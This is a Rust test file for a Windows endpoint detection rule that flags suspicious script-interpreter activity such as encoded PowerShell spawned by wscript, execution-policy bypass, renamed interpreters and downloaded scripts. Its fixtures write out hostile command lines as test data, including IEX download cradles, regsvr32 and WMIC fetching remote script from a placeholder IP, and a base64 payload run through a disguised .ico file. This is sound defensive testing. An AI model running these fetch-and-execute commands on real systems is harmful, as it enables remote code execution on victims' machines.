use super::*;

#[test]
fn a_script_from_the_desktop_that_starts_encoded_powershell() {
    let found = run([
        start(
            2,
            WSCRIPT,
            r#""wscript.exe" "C:\Users\ann\Desktop\a.vbs""#,
            1,
            EXPLORER,
        )
        .at(NOON),
        start(
            3,
            POWERSHELL,
            &format!("powershell -noP -sta -w 1 -enc {CRADLE}"),
            2,
            WSCRIPT,
        ),
    ]);
    let [finding] = found.as_slice() else {
        panic!("{found:#?}")
    };
    assert_eq!(finding.process, Some(2));
    assert!(
        finding
            .details
            .iter()
            .any(|detail| detail.value.contains("DownloadString"))
    );
}

#[test]
fn the_order_of_launches_does_not_matter() {
    let found = run([
        start(
            3,
            POWERSHELL,
            &format!("powershell -enc {CRADLE}"),
            2,
            WSCRIPT,
        )
        .set(
            field::PROCESS_PARENT_PROCESS_CMD_LINE,
            r#"wscript "C:\Users\ann\Desktop\a.vbs""#,
        )
        .at(NOON),
        start(
            2,
            WSCRIPT,
            r#"wscript "C:\Users\ann\Desktop\a.vbs""#,
            1,
            EXPLORER,
        ),
    ]);
    assert_eq!(found.len(), 1, "{found:#?}");
}

#[test]
fn a_script_planted_in_the_system_directory() {
    let found = run([
        start(
            2,
            WSCRIPT,
            r#"WScript.exe "C:\windows\system32\autoupdate.vbs""#,
            1,
            CMD,
        )
        .at(NOON),
        start(
            3,
            POWERSHELL,
            &format!("powershell -w hidden -e {CRADLE}"),
            2,
            WSCRIPT,
        ),
    ]);
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"run.planted"));
}

#[test]
fn a_policy_set_aside_for_code() {
    for line in [
        format!("powershell -exec bypass -e {CRADLE}"),
        "powershell -ep bypass -w hidden -c Invoke-WmiMethod -Class win32_process -Name create -A`r`g`u`m`e`n`t x".to_owned(),
        "powershell -ExecutionPolicy Unrestricted -c \"IEX (iwr http://203.0.113.5/a)\"".to_owned(),
    ] {
        let found = run([start(3, POWERSHELL, &line, 1, CMD).at(NOON)]);
        assert_eq!(found.len(), 1, "{line}");
    }
}

#[test]
fn a_script_whose_name_hides_what_it_is() {
    let found = run([start(
        2,
        WSCRIPT,
        r#""wscript.exe" /E:vbs c:\windows\temp\icon.ico "powershell -exec bypass -c ""IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('JFhY')))""""#,
        1,
        EXPLORER,
    )
    .at(NOON)]);
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"proxy.disguised-script"));
}

#[test]
fn an_engine_by_name_and_a_child_from_a_temporary_folder() {
    let found = run([
        start(
            2,
            r"C:\Windows\System32\cscript.exe",
            "cscript.exe //e:jscript t.js",
            1,
            CMD,
        )
        .at(NOON),
        start(
            3,
            r"C:\Users\ann\AppData\Local\Temp\Temp3_a.zip\i.exe",
            "i.exe",
            2,
            r"C:\Windows\System32\cscript.exe",
        ),
    ]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn a_connection_before_the_launch_counts() {
    let displaced = r"C:\Temp\powershell.exe";
    let found = run([
        event(class::NETWORK_OPEN)
            .by(3)
            .set(field::ACTOR_PROCESS_FILE_PATH, POWERSHELL)
            .set(field::CONNECTION_INFO_OUTBOUND, 1)
            .set(field::DST_ENDPOINT_IP, "203.0.113.7")
            .set(field::DST_ENDPOINT_PORT, 443)
            .at(NOON),
        start(
            3,
            POWERSHELL,
            r#"powershell.exe -Command "& 'C:\Temp\t.ps1'""#,
            2,
            displaced,
        )
        .set(
            field::PROCESS_PARENT_PROCESS_CMD_LINE,
            r#""C:\Temp\powershell.exe" -Embedding"#,
        ),
    ]);
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"effect.connection"));
}

#[test]
fn rare_interpreters_and_scripts_once_the_baseline_knows() {
    let before = NOON - 30 * 24 * HOUR;
    let line = r#"wscript "C:\Tools\a.vbs""#;
    let events = || {
        [
            start(2, WSCRIPT, line, 1, EXPLORER).at(NOON),
            start(
                3,
                r"C:\Users\ann\AppData\Local\Temp\x.exe",
                "x.exe",
                2,
                WSCRIPT,
            ),
        ]
    };
    let learnt = World::new()
        .learning_since("interpreters", before)
        .learning_since("scripts", before);
    let site =
        json!({ "maintenance_windows": [{ "days": ["sun"], "from": "22:00", "to": "23:00" }] });
    let found = testing::run::<An1925>(learnt.clone(), json!({}), site.clone(), events());
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"run.rare-interpreter"));
    // The same where the script is everyday.
    let usual = learnt
        .observed("interpreters", "wscript.exe", "device-1", before, 40)
        .observed(
            "scripts",
            "wscript.exe|c:/tools/a.vbs",
            "device-1",
            before,
            40,
        );
    assert!(testing::run::<An1925>(usual, json!({}), site, events()).is_empty());
}

#[test]
fn a_script_written_and_downloaded_before_it_ran() {
    let path = r"C:\Users\ann\Downloads\a.ps1";
    let found = run([
        event(class::FILE_CREATE)
            .by(9)
            .set(
                field::ACTOR_PROCESS_FILE_PATH,
                r"C:\Program Files\Mozilla Firefox\firefox.exe",
            )
            .set(field::FILE_PATH, path)
            .at(NOON),
        event(class::FILE_STREAM)
            .by(9)
            .set(field::FILE_PATH, &format!("{path}:Zone.Identifier"))
            .set(field::FILE_CONTENTS, "[ZoneTransfer] ZoneId=3"),
        start(
            3,
            POWERSHELL,
            &format!("powershell -ep bypass -File {path}"),
            1,
            EXPLORER,
        ),
    ]);
    assert_eq!(found.len(), 1);
    let stages = stages(&found[0]);
    assert!(stages.contains(&"run.dropped") && stages.contains(&"run.downloaded"));
}

#[test]
fn a_utility_and_what_it_starts() {
    let regsvr32 = r"C:\Windows\System32\regsvr32.exe";
    let found = run([
        start(
            2,
            regsvr32,
            "regsvr32 /s /u /i:http://203.0.113.5/a.sct scrobj.dll",
            1,
            CMD,
        )
        .at(NOON),
        start(
            3,
            POWERSHELL,
            &format!("powershell -enc {CRADLE}"),
            2,
            regsvr32,
        ),
    ]);
    // The utility by itself, and again as what it starts makes it worse.
    let severities: Vec<_> = found.iter().map(|finding| finding.severity).collect();
    assert_eq!(severities, [Severity::Medium, Severity::High]);
    assert!(found.iter().all(|finding| finding.process == Some(2)));
}

#[test]
fn a_renamed_interpreter() {
    let found = run([start(
        2,
        r"C:\Users\Public\svc.exe",
        r"svc.exe C:\Users\Public\a.txt //e:vbscript //b",
        1,
        CMD,
    )
    .set(field::PROCESS_FILE_INTERNAL_NAME, "wscript.exe")
    .at(NOON)]);
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"proxy.renamed"));
}

#[test]
fn a_script_inside_a_session_after_scripts_were_switched_on() {
    let found = run([
        set_value(2, POWERSHELL, EXECUTION_POLICY, "Unrestricted").at(NOON),
        event(class::SCRIPT_EXECUTE)
            .by(5)
            .set(field::SCRIPT_PATH, r"C:\Users\ann\Desktop\t.ps1")
            .set(
                field::SCRIPT_CONTENT,
                "[Reflection.Assembly]::Load($x); $a.Invoke()",
            )
            .at(NOON + HOUR),
    ]);
    assert_eq!(found.len(), 2, "{found:#?}");
    assert_eq!(found[1].process, Some(5));
}

#[test]
fn an_unsigned_child_told_by_its_own_image() {
    let child = r"C:\ProgramTools\x.exe";
    let found = run([
        start(
            2,
            WSCRIPT,
            r#"wscript //e:jscript "C:\Users\ann\Desktop\a.js""#,
            1,
            EXPLORER,
        )
        .at(NOON),
        start(3, child, "x.exe", 2, WSCRIPT),
        event(class::MODULE_LOAD)
            .by(3)
            .set(field::ACTOR_PROCESS_FILE_PATH, child)
            .set(field::MODULE_FILE_PATH, child)
            .set(field::MODULE_FILE_SIGNATURE_SIGNED, 0),
    ]);
    assert_eq!(found.len(), 1);
    assert!(stages(&found[0]).contains(&"effect.odd-child"));
}

#[test]
fn a_utility_that_takes_script_from_the_network_is_found_alone() {
    for (image, line) in [
        (
            r"C:\Windows\System32\regsvr32.exe",
            "regsvr32 /s /u /i:http://203.0.113.5/a.sct scrobj.dll",
        ),
        (
            r"C:\Windows\System32\wbem\WMIC.exe",
            "wmic os get /format:\"https://203.0.113.5/a.xsl\"",
        ),
    ] {
        assert_eq!(
            run([start(2, image, line, 1, CMD).at(NOON)]).len(),
            1,
            "{line}"
        );
    }
}

#[test]
fn a_control_system_script_on_a_mounted_image_is_found_alone() {
    let app = r"C:\sc\prog\exec\scilc.exe";
    let at = |directory: &str| {
        let event = start(2, app, r"scilc.exe -do pack\s1.txt", 1, CMD).at(NOON);
        run([event.set(field::PROCESS_WORKING_DIRECTORY, directory)]).len()
    };
    assert_eq!(at("E:\\"), 1);
    assert_eq!(at("C:\\sc\\"), 0);
}
